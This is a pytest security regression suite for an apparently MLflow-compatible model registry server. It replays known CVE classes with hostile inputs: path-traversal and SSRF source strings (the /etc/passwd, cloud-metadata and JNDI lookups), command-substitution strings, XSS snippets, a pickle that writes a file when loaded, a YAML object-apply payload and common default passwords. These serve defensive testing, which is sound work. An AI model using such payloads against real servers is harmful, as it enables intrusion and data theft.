"""The classes of vulnerability that MLflow's servers had, replayed; each docstring has their numbers and CVEs."""

from __future__ import annotations

import base64
import io
import pickle
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from registry.app import create_app
from registry.config import Settings
from registry.db.session import db
from registry.http.access import PUBLIC, permission_of
from tests.support.api import HOST, Api
from tests.support.artifact_area import AREA, ArtifactArea
from tests.support.databases import Database
from tests.support.mlflow_api import MlflowApi
from tests.support.registry_builder import RegistryBuilder
from tests.support.replies import expect

SOURCES = (
    "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "file:/etc/passwd", "file://localhost/etc/passwd",
    "FILE:///etc/passwd", "file:///etc/../etc/passwd", "/../../etc/passwd", "../../etc/passwd",
    "C:\\windows\\win.ini", "\\\\evil.test\\share", "file:///etc/passwd#/", "file:///etc/passwd?x=1",
    "file:///etc;/passwd", "file:///%65tc/passwd", "file:///etc/%2e%2e/passwd", "s3://bucket/../../etc/passwd",
    "s3://bucket/%2e%2e/%2e%2e/etc/passwd", "s3://bucket/%252e%252e/etc", "s3:/../etc/passwd",
    "http://evil.test/model", "https://evil.test/model#/../..", "https://evil.test/..%2f..%2fetc",
    "https://evil.test/a;/../b", "http://169.254.169.254/latest/meta-data", "http://127.0.0.1:1/model",
    "http://[::1]:1/model", "http://[bad", "ftp://evil.test/a", "gopher://evil.test/1", "dict://evil.test:1/x",
    "jar:file:///etc/passwd!/a", "mlflow-artifacts:/../../etc/passwd", "mlflow-artifacts://evil.test/a",
    "mlflow-artifacts:/..%2f..%2fetc", "runs:/../../etc/passwd", "runs:/x/../../etc", "models:/../1",
    "models:/m-" + "0" * 32 + "/../../etc", "models://evil.test/fraud/1", "dbfs:/../etc", "hdfs://evil.test/a",
    "javascript:alert(1)", "data:text/plain,x", "sqlite:////etc/passwd", "${jndi:ldap://evil.test/a}",
    "{{7*7}}", "$(touch /tmp/owned)", "`id`", "a\x00b",
)  # fmt: skip
NOWHERE = ("/etc/passwd", "win.ini", "evil.test", "169.254", "owned", "('127.0.0.1', 1)", "('::1', 1")


@contextmanager
def watching() -> Iterator[list[str]]:
    """What the process opens and whom it calls inside the block."""
    seen: list[str] = []
    watched = {"open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "shutil.copyfile"}

    def note(event: str, arguments: tuple[Any, ...]) -> None:
        if active and event in watched:
            seen.append(f"{event} {arguments!r}")

    active = True
    sys.addaudithook(note)  # it stays for good, and is deaf after the block
    try:
        yield seen
    finally:
        active = False


@pytest.fixture
def dev_client(make_settings: Callable[..., Settings], database: Database) -> Iterator[FlaskClient]:
    """The app as ``serve --dev`` runs it: without login."""
    if database.kind != "sqlite":
        pytest.skip("--dev keeps to SQLite")
    app = create_app(make_settings(database.url, dev=True))
    yield app.test_client()
    with app.app_context():
        db.engine.dispose()


def faces_of(app: Flask) -> dict[str, str]:
    """The permission of each endpoint of MLflow's faces, by method and address."""
    return {
        f"{method} {rule.rule}": str(permission_of(app.view_functions[rule.endpoint]))
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("mlflow")
        for method in sorted((rule.methods or set()) - {"OPTIONS", "HEAD"})
    }


def test_a_source_is_a_text_that_is_never_opened(mlflow_api: MlflowApi, open_model: str) -> None:
    """1, 2, 5: CVE-2023-1177, 2023-6909, 2024-1483, 2024-2928, 2025-11201, 2025-52967."""
    with watching() as seen:
        for source in SOURCES:
            made = mlflow_api("POST", "/model-versions/create", name=open_model, source=source)
            assert made.status_code in {200, 400, 404}, (source, made.get_data(as_text=True))
            if made.status_code == 200:
                version = made.get_json()["model_version"]
                assert version["source"] == source
                number = version["version"]
                uri = mlflow_api.make("GET", "/model-versions/get-download-uri", name=open_model, version=number)
                assert uri == {"artifact_uri": source}
                mlflow_api.move(number, "Production")

    assert [line for line in seen if any(where in line for where in NOWHERE)] == []


def test_no_path_of_a_client_becomes_a_path_of_the_server(
    artifact_area: ArtifactArea, registry: RegistryBuilder, storage_root: Path
) -> None:
    """3, 4: CVE-2023-6018, 2023-6831, 2024-1560: nothing is overwritten, deleted or linked outside of what is ours."""
    registry.model("fraud").version()
    outside = storage_root.parent / "outside"
    outside.write_text("mine")
    for step in ("../outside", "..%2foutside", "%2e%2e/outside", "%252e%252e/outside", "a/../../outside", "..\\outside",
                 f"{outside}", f"%2f{outside}", "a/..;/outside", "link/../../outside"):  # fmt: skip
        assert artifact_area.put(step, b"theirs").status_code == 400, step
        assert artifact_area.delete(step).status_code == 400, step
        assert artifact_area.get(step).status_code in {400, 404}, step
    shown = registry.client.get("/models/fraud").get_json()["id"]

    overwritten = artifact_area.put(f"versions/{shown}/1/model.bin", b"theirs")
    deleted = artifact_area.delete(f"versions/{shown}/1")

    assert {overwritten.status_code, deleted.status_code} <= {400, 403, 409}
    assert outside.read_text() == "mine"
    assert {path.relative_to(storage_root).parts[0] for path in storage_root.rglob("*") if path.is_file()} <= {
        "blobs",
        "parts",
        "tmp",
        "incoming",
        "registry-id",
    }
    assert not [path for path in storage_root.rglob("*") if path.is_symlink()]


def test_a_file_is_named_by_its_manifest_only(artifact_area: ArtifactArea, registry: RegistryBuilder) -> None:
    """6, 14: CVE-2024-0520, 2023-6568, 2024-27132: a download is an attachment with a plain name, never a page."""
    page = b"<script>alert(document.domain)</script>"
    registry.model("fraud").version(files=[{**registry.file(page, path="a/evil.html"), "media_type": "text/html"}])
    model = registry.client.get("/models/fraud").get_json()["id"]
    artifact_area.put(
        "x/page.svg", page, headers={"Content-Type": "image/svg+xml", "Content-Disposition": "inline; filename=/etc/x"}
    )

    for path in (f"versions/{model}/1/a/evil.html", "x/page.svg"):
        reply = artifact_area.get(path)
        assert reply.status_code == 200
        assert reply.headers["Content-Disposition"].startswith("attachment; filename=")
        assert "/" not in reply.headers["Content-Disposition"]
        assert reply.headers["X-Content-Type-Options"] == "nosniff"


def test_no_name_and_password_that_people_use_lets_anybody_in(app: Flask) -> None:
    """7: CVE-2025-11200, 2025-1474: there are no passwords, no default ones either."""
    client = app.test_client()
    names = ("admin", "root", "mlflow", "user", "test", "guest", "administrator", "ci", "")
    words = ("password1234", "password", "admin", "mlflow", "123456", "changeme", "secret", "root", "", "mrp_", "null")
    years = tuple(f"{word}{year}" for word in words for year in ("!", "1", "123", 2024, 2025, 2026))
    for name in names:
        for word in words + years:
            login = base64.b64encode(f"{name}:{word}".encode()).decode()
            for header in (f"Basic {login}", f"Bearer {word}"):
                reply = client.get(
                    "/api/2.0/mlflow/registered-models/search", headers={"Authorization": header}, base_url=HOST
                )
                assert reply.status_code == 401, (name, word)


def test_no_endpoint_is_open_and_each_asks_the_same_under_both_addresses(app: Flask) -> None:
    """8, 9, 12: CVE-2026-0545, 2026-2652, 2026-33866, 2026-2651, 2025-15381, 2023-6014."""
    found = faces_of(app)

    open_ = {address for address, permission in found.items() if permission == PUBLIC}
    probes = {"/health", "/version"}
    assert {address.partition("<")[0].split()[1] for address in open_} == {"/api/", "/ajax-api/", *probes}
    assert len(found) > 60
    for address, permission in found.items():
        if " /api/" in address:
            assert found[address.replace(" /api/", " /ajax-api/")] == permission, address


def test_who_may_not_read_finds_nothing(app: Flask, registry: RegistryBuilder, mlflow_api: MlflowApi) -> None:
    """10: CVE-2026-2734: nothing is listed, found or sent without a token, nor what is deleted with one."""
    registry.model("fraud").version(stage="production", aliases=["champion"])
    stranger = MlflowApi(app.test_client(), None)

    for path in ("/registered-models/search", "/model-versions/search"):
        assert stranger.refused("GET", path)[:2] == (401, "UNAUTHENTICATED")
    assert app.test_client().get(f"{AREA}/artifacts", base_url=HOST).status_code == 401
    expect(200, registry.client.patch("/models/fraud", {"lifecycle": "open"}))
    mlflow_api.make("DELETE", "/registered-models/delete", name="fraud")
    assert mlflow_api.make("GET", "/registered-models/search") == mlflow_api.make("GET", "/model-versions/search") == {}


def test_a_verb_needs_its_own_permission(mlflow_api_as: Callable[[str], MlflowApi], registry: RegistryBuilder) -> None:
    """11: CVE-2024-4263: who may read does not write, who may write does not delete, rename or promote."""
    registry.model("fraud").version(stage="staging")
    number = {"name": "fraud", "version": "1"}
    refused = {
        "reader": [
            ("POST", "/registered-models/create", {"name": "mine"}),
            ("PATCH", "/registered-models/update", {"name": "fraud"}),
            ("POST", "/model-versions/create", {"name": "fraud", "source": "s3://b/k"}),
            ("POST", "/model-versions/set-tag", {**number, "key": "a"}),
            ("POST", "/registered-models/alias", {**number, "alias": "a"}),
            ("POST", "/model-versions/transition-stage", {**number, "stage": "None"}),
        ],
        "writer": [
            ("DELETE", "/model-versions/delete", number),
            ("DELETE", "/registered-models/delete", {"name": "fraud"}),
            ("POST", "/registered-models/rename", {"name": "fraud", "new_name": "mine"}),
            ("POST", "/model-versions/transition-stage", {**number, "stage": "Production"}),
        ],
        "auditor": [("POST", "/registered-models/set-tag", {"name": "fraud", "key": "a"})],
    }
    before = registry.audit_entry_count()

    for role, calls in refused.items():
        for method, path, arguments in calls:
            assert mlflow_api_as(role).refused(method, path, **arguments)[:2] == (403, "PERMISSION_DENIED"), (
                role,
                path,
            )

    assert registry.audit_entry_count() == before


def test_a_page_of_another_origin_or_name_reaches_nothing_without_login(dev_client: FlaskClient) -> None:
    """12, 13: CVE-2025-14279, 2025-1473: DNS rebinding and cross-site requests against a server without login."""
    path = "/api/2.0/mlflow/registered-models/create"

    rebound = dev_client.post(path, json={"name": "theirs"}, base_url="http://evil.test")
    crossed = dev_client.post(path, json={"name": "theirs"}, base_url="http://127.0.0.1:5000",
                              headers={"Origin": "https://evil.test"})  # fmt: skip
    simple = dev_client.post(
        path, data='{"name": "theirs"}', content_type="text/plain", base_url="http://127.0.0.1:5000"
    )

    assert (rebound.status_code, crossed.status_code, simple.status_code) == (400, 403, 400)
    found = dev_client.get("/api/2.0/mlflow/registered-models/search", base_url="http://127.0.0.1:5000")
    assert found.get_json() == {}
    assert "Access-Control-Allow-Origin" not in found.headers


class Booby:
    """A pickle that writes a file when it is loaded."""

    def __init__(self, trap: Path) -> None:
        self.trap = trap

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (self.trap, "loaded"))


def test_the_server_loads_no_model_and_renders_no_text(
    artifact_area: ArtifactArea, mlflow_api: MlflowApi, registry: RegistryBuilder, tmp_path: Path
) -> None:
    """14 to 16: CVE-2024-37052, 2023-6709, 2024-27133: pickles, YAML tags and templates are bytes and texts."""
    trap = tmp_path / "trap"
    source = "mlflow-artifacts:/0/" + "a" * 32 + "/artifacts/model"
    folder = source.removeprefix("mlflow-artifacts:/")
    artifact_area.put(f"{folder}/model.pkl", pickle.dumps(Booby(trap)))
    yaml = f"flavors: !!python/object/apply:pathlib.Path.write_text [!!python/name:pathlib.Path '{trap}', x]\n"
    artifact_area.put(f"{folder}/MLmodel", yaml.encode())
    texts = [
        "{{7*7}}",
        "{% for x in y %}",
        "${jndi:ldap://evil.test}",
        f"$(touch {trap})",
        "<script>alert(1)</script>",
        "%s%n",
    ]
    registry.create_model()

    made = mlflow_api.registry.model("fraud").register(source=source, run_id="a" * 32, description=texts[0], tags=[
        {"key": f"k{number}", "value": text} for number, text in enumerate(texts)
    ])  # fmt: skip

    assert (made["status"], made["description"]) == ("READY", "{{7*7}}")
    assert {tag["value"] for tag in made["tags"]} == set(texts)
    assert registry.client.get("/models/fraud/versions/1").get_json()["framework"] is None
    assert expect(200, mlflow_api("GET", "/model-versions/search", filter="tags.k0 = '{{7*7}}'"))["model_versions"]
    assert not trap.exists()


@pytest.mark.parametrize(
    ("path", "arguments", "status"),
    [
        ("/registered-models/create", {"name": "n" * 100_000}, 400),
        ("/registered-models/create", {"name": "n", "description": "d" * 2**21}, 413),
        ("/registered-models/create", {"name": "n", "tags": [{"key": f"k{n}", "value": ""} for n in range(101)]}, 400),
        ("/registered-models/create", {"name": "n", "tags": [[[[["deep"]]]]] * 5000}, 413),
        ("/registered-models/create", {"name": {"a": {"b": "c"}}}, 400),
        ("/registered-models/create", {"name": "\x00"}, 400),
        ("/registered-models/create", {"name": "\ud800"}, 400),
        ("/model-versions/create", {"name": "fraud", "source": "s" * 5000}, 400),
        ("/model-versions/create", {"name": "fraud", "source": "s3://b/k", "run_id": "r" * 300}, 400),
    ],
)
def test_what_is_too_much_is_refused(mlflow_api: MlflowApi, path: str, arguments: Any, status: int) -> None:
    """17: CVE-2024-6838, 2025-0453."""
    found, code, _ = mlflow_api.refused("POST", path, **arguments)

    assert (found, code) == (status, "INVALID_PARAMETER_VALUE")


BOMBS = ("name = 'a' AND " * 3000 + "name = 'a'", "(" * 20_000, "'" * 9999, "name IN (" + "'a'," * 9000 + "'a')",
         "name LIKE '" + "%_" * 20_000 + "'", "name = 'a' OR 1=1 --")  # fmt: skip


@pytest.mark.parametrize("filter", BOMBS, ids=[text[:10] for text in BOMBS])
def test_a_filter_that_is_a_bomb_is_refused(mlflow_api: MlflowApi, filter: str) -> None:
    """17: each is answered at once."""
    assert mlflow_api.refused("GET", "/registered-models/search", filter=filter)[:2] == (400, "INVALID_PARAMETER_VALUE")


@pytest.mark.parametrize("name", ["fraud%2f1", "fraud%20", "fra%75d", "fraud%00", "%66raud"])
def test_a_name_is_read_once_and_means_one_model(mlflow_api: MlflowApi, registry: RegistryBuilder, name: str) -> None:
    """18: CVE-2024-3099: no second decoding, and no look-alike of a name that there is."""
    registry.model("fraud").version()

    assert mlflow_api.refused("GET", "/registered-models/get", name=name)[:2] == (404, "RESOURCE_DOES_NOT_EXIST")
    for twin in ("FRAUD", "\uff46raud", "fraud\u200b", " fraud", "fraud ", "fra\u0075\u0308d", "\u202efraud"):
        assert mlflow_api("POST", "/registered-models/create", name=twin).status_code == 400, twin
    assert len(registry.client.get("/models").get_json()["items"]) == 1


def test_nothing_of_a_deleted_model_comes_back_with_its_name(
    mlflow_api: MlflowApi, registry: RegistryBuilder, open_model: str
) -> None:
    """19: neither aliases nor stages, tags, numbers or files of another model that had the name."""
    mlflow_api.registry.model(open_model).register()
    mlflow_api.move(1, "Production")
    mlflow_api.make("POST", "/registered-models/alias", name=open_model, alias="champion", version="1")
    mlflow_api.make("POST", "/registered-models/set-tag", name=open_model, key="trusted", value="yes")
    mlflow_api.make("DELETE", "/registered-models/delete", name=open_model)

    mlflow_api.registry.create_model(open_model)

    assert set(mlflow_api.make("GET", "/registered-models/get", name=open_model)["registered_model"]) == {
        "name",
        "creation_timestamp",
        "last_updated_timestamp",
    }
    assert mlflow_api.refused("GET", "/registered-models/alias", name=open_model, alias="champion")[0] == 400
    assert mlflow_api.refused("GET", "/model-versions/get", name=open_model, version="1")[0] == 404
    assert mlflow_api.make("POST", "/registered-models/get-latest-versions", name=open_model) == {}


def test_what_is_being_received_cannot_be_read_by_other_users(
    artifact_area: ArtifactArea, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """20: CVE-2022-0736, 2025-10279: what a body is spooled to has no name, or is its owner's alone."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    modes: set[int] = set()

    class Body(io.RawIOBase):
        """Looks at the temporary directory while it is read."""

        left = 40 * 2**20

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: Any) -> int:
            modes.update(path.stat().st_mode & 0o077 for path in tmp_path.iterdir())
            length = min(len(buffer), self.left)
            self.left -= length
            return length

    sent = {"wsgi.input": Body(), "CONTENT_LENGTH": str(Body.left)}
    reply = artifact_area("PUT", f"{AREA}/artifacts/large", environ_overrides=sent)

    assert reply.status_code == 200, reply.get_data(as_text=True)
    assert modes <= {0}
    assert list(tmp_path.iterdir()) == []


def test_a_stranger_learns_nothing_from_the_text_of_a_refusal(app: Flask, registry: RegistryBuilder) -> None:
    """What there is and what there is not look the same from outside."""
    registry.model("fraud").version()
    stranger = MlflowApi(app.test_client(), "mrp_" + "A" * 50)

    answers = {stranger.refused("GET", "/registered-models/get", name=name) for name in ("fraud", "nobody")}

    assert len(answers) == 1


def test_the_api_fixture_is_not_a_stranger(api: Api) -> None:
    """Without this, every refusal above could be that of a broken token."""
    assert api.get("/me").status_code == 200
